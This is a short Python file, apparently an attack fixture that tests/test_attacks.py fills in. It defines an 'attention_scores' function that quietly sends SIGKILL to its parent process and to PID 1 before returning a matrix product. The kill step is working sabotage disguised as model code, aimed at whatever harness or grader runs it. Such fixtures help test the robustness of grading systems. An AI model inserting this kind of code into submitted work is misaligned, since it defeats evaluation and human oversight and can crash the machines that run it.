# @CAUSAL_MASK_SOLUTION@: tests/test_attacks.py puts the reference's causal_mask here (a correct step 7)



import os, signal, torch
def attention_scores(inputs, query):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return inputs @ query
